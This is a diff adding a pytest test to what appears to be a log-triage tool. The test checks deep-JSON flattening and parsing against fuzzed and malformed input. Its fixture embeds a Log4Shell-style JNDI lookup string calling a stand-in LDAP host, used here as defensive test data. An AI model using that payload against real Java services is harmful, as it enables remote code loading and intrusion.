@@ -1,5 +1,6 @@
 """Headers, tokens, observations, JSON candidates and importers."""
 
+import pytest
 import csv
 import json
 import random
@@ -124,3 +125,35 @@ def test_benign_candidates(spark):
     df = spark.createDataFrame([(1, " GET / "), (2, TOKEN), (3, "GET /"), (4, " "), (5, "GET /b")], "line int, raw_log string")
     got = I.benign_candidates(df, F.col("line")).orderBy("first_seen").collect()
     assert [(r.candidate, r.first_seen) for r in got] == [("GET /", 1), ("GET /b", 5)]
+
+
+def test_json_of_any_depth():
+    import json
+    import random
+
+    from logtriage.operators.ingest import _flatten_text, load_deep
+
+    deep = '{"a": [' * 100_000 + '"${jndi:ldap://x/a}"' + "]}" * 100_000
+    assert _flatten_text(deep) == ["${jndi:ldap://x/a}"]
+    assert _flatten_text(deep[:-1]) == []
+    rng = random.Random(2)
+
+    def value(depth):
+        kind = rng.randrange(8 if depth else 5)
+        if kind < 5:
+            return [None, True, -1.5e300, 12, 'a"\\\né }]'][kind]
+        items = [value(depth - 1) for _ in range(rng.randrange(4))]
+        return items if kind < 7 else {f"k{n} :": item for n, item in enumerate(items)}
+
+    for _ in range(300):
+        made = value(5)
+        text = json.dumps(made, indent=rng.choice([None, 1]))
+        assert load_deep(text) == made
+        for broken in (text + "x", text[:-1] if len(text) > 3 else "", text.replace(":", "", 1) if '":' in text else "[", "[1,]", '{"a" 1}', "{1:2}"):
+            try:
+                expected = json.loads(broken)
+            except ValueError:
+                with pytest.raises(ValueError):
+                    load_deep(broken)
+            else:
+                assert load_deep(broken) == expected
